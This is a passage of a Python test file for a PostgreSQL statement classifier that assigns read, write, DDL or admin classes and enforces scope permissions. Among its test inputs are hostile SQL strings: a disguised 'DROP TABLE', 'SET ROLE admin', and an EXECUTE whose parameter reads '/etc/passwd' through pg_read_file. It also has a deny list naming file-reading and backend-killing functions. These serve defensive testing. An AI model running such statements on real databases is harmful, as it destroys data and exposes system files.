    ("SELECT 1; SELECT 2", [R, R], (True, True, True)),
    ("SeLeCt 1 ; DROP TABLE t", [R, D], (False, False, True)),
    ("SELECT 1; /* hi */ DROP TABLE t; -- bye", [R, D], (False, False, True)),
    ("SELECT 1; SET ROLE admin", [R, A], (False, False, False)),
    ("BEGIN; INSERT INTO t VALUES (1); COMMIT", [T, W, T], (False, True, True)),
    ("BEGIN; SELECT 1; COMMIT;", [T, R, T], (True, True, True)),
    ("PREPARE p AS DELETE FROM t; EXECUTE p", [W, W], (False, True, True)),
    ("PREPARE p AS SELECT 1; EXECUTE p", [R, R], (True, True, True)),
    ("PREPARE p AS SELECT 1; DEALLOCATE p; EXECUTE p", [R, T, U], (False, False, False)),
    ("PREPARE p AS SELECT 1; DISCARD ALL; EXECUTE p", [R, T, U], (False, False, False)),
    ("SELECT pg_advisory_unlock_all();\nCLOSE ALL;\nUNLISTEN *;\nRESET ALL;", [R, R, T, T], (True, True, True)),
    ("SET search_path = ''; SELECT 1", [T, R], (True, True, True)),
    ("BEGIN READ WRITE; UPDATE t SET a = 1; COMMIT", [W, W, T], (False, True, True)),
]


@pytest.mark.parametrize("sql,classes,allowed", MULTI)
def test_multi_statement(sql, classes, allowed):
    classified = classify(sql)
    assert [s.statement_class for s in classified.statements] == classes
    got = tuple(decide(DEFAULT_SCOPES[s], classified).allowed for s in ("read", "write", "ddl"))
    assert got == allowed


# --------------------------------------------------------------------------- prepared statements


def test_prepare_exposes_name_and_class():
    stmt = classify("PREPARE getit(int) AS UPDATE t SET a = $1").statements[0]
    assert (stmt.prepares, stmt.statement_class) == ("getit", W)
    assert classify("PREPARE q AS SELECT 1").statements[0].prepares == "q"


def test_execute_uses_remembered_class():
    prepared = {"r": R, "w": W}
    assert classify("EXECUTE r", prepared=prepared).statements[0].statement_class is R
    assert classify("EXECUTE w(1)", prepared=prepared).statements[0].statement_class is W
    assert classify("EXECUTE nope", prepared=prepared).statements[0].statement_class is U


def test_execute_parameters_are_checked():
    stmt = classify("EXECUTE r(pg_read_file('/etc/passwd'))", prepared={"r": R}).statements[0]
    assert (stmt.statement_class, stmt.rule_id) == (A, "function.admin")


def test_execute_inside_wrappers():
    assert classify("EXPLAIN ANALYZE EXECUTE w", prepared={"w": W}).statements[0].statement_class is W
    assert classify("EXPLAIN EXECUTE w", prepared={"w": W}).statements[0].statement_class is R
    assert classify("CREATE TABLE x AS EXECUTE r", prepared={"r": R}).statements[0].statement_class is D
    assert classify("EXPLAIN ANALYZE EXECUTE unknown").statements[0].statement_class is U


def test_execute_is_not_cacheable_but_prepare_is():
    assert not classify("EXECUTE r", prepared={"r": R}).cacheable
    assert not classify("EXPLAIN ANALYZE EXECUTE r", prepared={"r": R}).cacheable
    assert classify("PREPARE p AS SELECT 1").cacheable


def test_caller_mapping_is_not_modified():
    prepared = {"r": R}
    classify("DEALLOCATE ALL; PREPARE x AS DELETE FROM t", prepared=prepared)
    assert prepared == {"r": R}


def test_deallocate_and_discard_report_what_they_drop():
    assert classify("DEALLOCATE p").statements[0].deallocates == "p"
    assert classify("DEALLOCATE PREPARE p").statements[0].deallocates == "p"
    assert classify("DEALLOCATE ALL").statements[0].deallocates_all
    assert classify("DISCARD ALL").statements[0].deallocates_all
    assert not classify("DISCARD PLANS").statements[0].deallocates_all


# --------------------------------------------------------------------------- catalog extension


def test_operator_can_vouch_for_a_function():
    from policy.sql.catalog import DEFAULT_CATALOG

    cat = DEFAULT_CATALOG.extended(readsafe_functions=["app.add", "my_function"])
    assert classify("SELECT app.add(1, 2), my_function()", catalog=cat).statements[0].statement_class is R
    assert classify("SELECT other.add(1, 2)", catalog=cat).statements[0].statement_class is W


def test_extension_never_lifts_a_deny_list():
    from policy.sql.catalog import DEFAULT_CATALOG

    cat = DEFAULT_CATALOG.extended(readsafe_functions=["pg_read_file", "nextval"])
    assert classify("SELECT pg_read_file('x')", catalog=cat).statements[0].statement_class is A
    assert classify("SELECT nextval('s')", catalog=cat).statements[0].statement_class is W


def test_operator_can_deny_more():
    from policy.sql.catalog import DEFAULT_CATALOG

    cat = DEFAULT_CATALOG.extended(admin_functions=["app.wipe"], write_functions={"stamp": "stamps rows"},
                                   guarded_settings=["app.tenant"], harmless_settings=["myext_setting"])
    assert classify("SELECT app.wipe()", catalog=cat).statements[0].statement_class is A
    assert classify("SELECT stamp()", catalog=cat).statements[0].reason == "stamp() stamps rows"
    assert classify("SET app.tenant = 1", catalog=cat).statements[0].statement_class is A
    assert classify("SET myext_setting = 1", catalog=cat).statements[0].statement_class is T
    strict = DEFAULT_CATALOG.extended(allow_custom_settings=False)
    assert classify("SET app.x = 1", catalog=strict).statements[0].statement_class is U


def test_builtin_catalog_is_consistent():
    from policy.sql.catalog import DEFAULT_CATALOG as cat

    for name in ("pg_get_viewdef", "pg_get_functiondef", "format_type", "pg_get_expr", "pg_get_constraintdef",
                 "pg_get_indexdef", "pg_get_triggerdef", "pg_get_ruledef", "pg_get_userbyid", "obj_description",
                 "col_description", "pg_get_serial_sequence", "pg_get_statisticsobjdef", "pg_get_partkeydef",
                 "pg_get_function_arguments", "pg_get_function_result", "pg_table_is_visible", "array_to_string",
                 "pg_sleep", "now", "acldefault", "pg_is_in_recovery", "pg_export_snapshot"):
        assert cat.function_verdict((name,)).statement_class is R, name
    for name in ("pg_read_file", "lo_import", "pg_terminate_backend", "dblink_connect", "pg_ls_logdir"):
        assert cat.function_verdict(("pg_catalog", name)).statement_class is A, name
    assert "=" in cat.operators and "->>" in cat.operators and "#>" in cat.operators
    assert "statement_timeout" in cat.user_settings and "log_statement" in cat.privileged_settings


# --------------------------------------------------------------------------- result details


def test_literal_independence():
    assert classify("SELECT * FROM t WHERE a = 1").literal_independent
    assert classify("INSERT INTO t VALUES (1); UPDATE t SET a = 2").literal_independent
    assert not classify("SELECT set_config('application_name', 'x', false)").literal_independent
    assert not classify("SET application_name = 'x'").literal_independent
    assert not classify("SELECT 1; SET ROLE x").literal_independent
    assert not classify("SELEC 1").literal_independent
    assert not classify("").literal_independent


def test_tags_name_the_command():
    tags = [classify(q).statements[0].tag for q in (
        "DROP TABLE t", "EXPLAIN ANALYZE SELECT 1", "MOVE c", "RESET x", "COMMIT PREPARED 'x'",
        "CREATE MATERIALIZED VIEW m AS SELECT 1", "ANALYZE", "ALTER TABLE t ADD c int")]
    assert tags == ["DROP TABLE", "EXPLAIN ANALYZE", "MOVE", "RESET", "COMMIT PREPARED",
                    "CREATE MATERIALIZED VIEW", "ANALYZE", "ALTER TABLE"]


def test_reason_explains_wrappers():
    stmt = classify("EXPLAIN ANALYZE DELETE FROM t").statements[0]
    assert stmt.reason == "runs DELETE"
    stmt = classify("SELECT pg_read_file('x')").statements[0]
    assert "pg_read_file() reads or writes files" in stmt.reason


def test_strongest_statement():
    c = classify("SELECT 1; INSERT INTO t VALUES (1); SELECT 2")
    assert c.strongest is c.statements[1]
    assert classify("").strongest is None


# --------------------------------------------------------------------------- parser version differences


@pytest.mark.parametrize("sql", [
    "SELECT json_array(1, 2)",
    "SELECT json_arrayagg(a) FROM t",
    "SELECT json_value(a, '$.x'), json_exists(a, '$')",
    "SELECT json_scalar(1)",
    "SELECT * FROM json_table(a, '$' COLUMNS (x int))",
    "SELECT system_user",
    "SELECT any_value(a) FROM t",
])
def test_newer_syntax_is_a_function_call_on_the_catalogs_server(sql):
    """pglast parses PostgreSQL 17 syntax; a PG 15 server reads json_array(1, 2) as a call of a
    function named json_array, which only a user can have defined: not vouched for under read."""
    import dataclasses

    from policy.sql.catalog import DEFAULT_CATALOG

    assert DEFAULT_CATALOG.server_version_num < 160000
    stmt = classify(sql).statements[0]
    assert (stmt.statement_class, stmt.rule_id) == (W, "function.unvouched")
    newer = dataclasses.replace(DEFAULT_CATALOG, server_version_num=170000)
    if "system_user" not in sql and "any_value" not in sql:  # those two are pg_proc functions on 16+
        assert classify(sql, catalog=newer).statements[0].statement_class is R
